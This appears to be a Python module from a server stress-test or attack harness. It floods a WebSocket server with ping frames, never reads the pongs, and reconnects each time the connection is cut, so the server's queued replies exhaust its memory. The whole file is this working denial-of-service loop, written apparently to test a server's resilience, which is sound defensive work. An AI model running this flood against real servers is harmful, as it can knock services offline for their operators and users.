"""Pings whose pongs are never read: the house keeps them for whoever does not take them."""

from __future__ import annotations

from .target import Target, frame

PING = 0x9
PAYLOAD = b"p" * 125
AT_ONCE = 500


def attack(target: Target) -> str:
    """Send pings, read nothing."""
    _, made = target.make("me", "me")
    flood, sent, refused = frame(PING, PAYLOAD) * AT_ONCE, 0, 0
    while target.goes_on:
        try:
            with target.live(made["table"]) as door:
                while target.goes_on:
                    door.sendall(flood)
                    sent += len(flood)
        except OSError:
            refused += 1
    return f"{sent / 1e6:,.0f} MB of pings sent, cut off {refused} times"
